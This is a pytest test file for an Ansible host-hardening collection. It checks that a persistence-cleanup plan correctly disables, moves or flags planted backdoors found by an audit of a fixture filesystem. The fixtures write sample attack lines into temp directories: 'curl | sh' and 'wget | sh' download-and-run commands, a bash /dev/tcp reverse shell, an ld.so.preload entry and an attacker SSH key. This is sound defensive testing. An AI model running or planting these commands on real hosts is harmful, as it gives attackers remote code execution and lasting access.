"""The persistence_hygiene plan, fed by a real persistence_audit result on a fixture root."""
from ansible_collections.hostguard.hardening.plugins.filter.persistence_plan import persistence_plan
from ansible_collections.hostguard.hardening.plugins.module_utils.persistence import AREA

from conftest import write
import persistence_tree as pt

IDS = ["HG-PERS-001", "HG-PERS-002", "HG-PERS-010", "HG-PERS-011", "HG-PERS-030", "HG-PERS-031"]
PROTECTED = ["/etc/profile", "/etc/bash.bashrc"]


def attacked(root):
    pt.base(root, users=(("root", 0, "/root"), ("alice", 1000, "/home/alice")))
    pt.unit(root, "/etc/systemd/system/upd.service", pt.service("/bin/sh -c 'curl -s http://e/x | sh'", wanted_by=None))
    pt.unit(root, "/etc/systemd/system/upd.timer", pt.timer())
    pt.enable(root, "upd.timer", target="timers.target")
    pt.unit(root, "/usr/lib/systemd/system/web.service", pt.service("/usr/sbin/web"))
    write(root, "/etc/systemd/system/web.service.d/x.conf", "[Service]\nExecStartPre=/dev/shm/w\n")
    write(root, "/etc/ld.so.preload", "/usr/lib/x.so\n")
    write(root, "/etc/profile", "wget -qO- http://x | sh\n")
    write(root, "/home/alice/.bashrc", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1\n")
    write(root, "/etc/ssh/sshd_config", "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n")
    write(root, "/etc/ssh/keys/root", pt.key_line("real") + "\n")
    write(root, "/root/.ssh/authorized_keys", pt.rdb_with_key("attacker"))
    write(root, "/home/alice/.ssh/authorized_keys", pt.key_line("backup", options='command="rsync --server"') + "\n")
    return AREA.run({"root": str(root)})


def test_plan_from_a_real_audit(tmp_path):
    out = attacked(tmp_path)
    plan = persistence_plan(out["findings"], out["facts"], "root", IDS, PROTECTED)
    assert plan["disable"] == ["upd.timer", "upd.service"]          # timer first; web.service is not disabled
    assert sorted(plan["move"]) == ["/etc/ld.so.preload", "/etc/systemd/system/upd.service",
                                    "/etc/systemd/system/upd.timer", "/etc/systemd/system/web.service.d/x.conf"]
    keys = plan["key_lines"]["/root/.ssh/authorized_keys"]
    assert keys["fingerprints"] == [pt.fingerprint("attacker")] and keys["remove_unparsable"] is True
    assert keys["protect"] is True and keys["protect_key_files"] == ["/etc/ssh/keys/root"]
    manual = dict((m["path"], m) for m in plan["manual"])
    assert "/etc/profile" in manual and "/home/alice/.bashrc" in manual
    assert "forced command" in manual["/home/alice/.ssh/authorized_keys"]["why"]


def test_connected_user_without_other_keys_still_gets_the_protect_flag(tmp_path):
    out = attacked(tmp_path)
    plan = persistence_plan(out["findings"], out["facts"], "alice", IDS, PROTECTED)
    keys = plan["key_lines"]["/root/.ssh/authorized_keys"]
    assert keys["protect"] is False    # root's file, Ansible connected as alice


def test_nothing_to_do_on_a_clean_audit():
    assert persistence_plan([], {}, "root", IDS, PROTECTED) == {
        "disable": [], "disable_global": [], "disable_user": [], "move": {}, "key_lines": {}, "manual": []}


def test_user_units_are_disabled_in_their_own_manager(tmp_path):
    pt.base(tmp_path, users=(("root", 0, "/root"), ("alice", 1000, "/home/alice"), ("bob", 1001, "/home/bob")))
    pt.unit(tmp_path, "/home/alice/.config/systemd/user/agent.service", pt.service("/tmp/.a/agent", wanted_by="default.target"))
    pt.enable(tmp_path, "agent.service", target="default.target", base="/home/alice/.config/systemd/user",
              unit_dir="/home/alice/.config/systemd/user")
    pt.unit(tmp_path, "/etc/systemd/user/glob.service", pt.service("/dev/shm/g", wanted_by="default.target"))
    pt.enable(tmp_path, "glob.service", target="default.target", base="/etc/systemd/user", unit_dir="/etc/systemd/user")
    pt.mkdir(tmp_path, "/home/bob/.config/systemd/user")       # bob's manager also sees glob.service
    out = AREA.run({"root": str(tmp_path)})
    runs = dict(((u["scope"], u["name"]), u["would_run"]) for u in out["facts"]["systemd"]["units"])
    assert runs[("user:alice", "agent.service")] is True and runs[("user", "glob.service")] is True
    assert runs[("user:bob", "glob.service")] is True
    plan = persistence_plan(out["findings"], out["facts"], "root", IDS, PROTECTED)
    assert plan["disable"] == [] and plan["disable_global"] == ["glob.service"]
    assert plan["disable_user"] == [{"user": "alice", "uid": 1000, "unit": "agent.service", "links": [
        "/home/alice/.config/systemd/user/default.target.wants/agent.service"]}]
    assert sorted(plan["move"]) == ["/etc/systemd/user/glob.service", "/home/alice/.config/systemd/user/agent.service"]
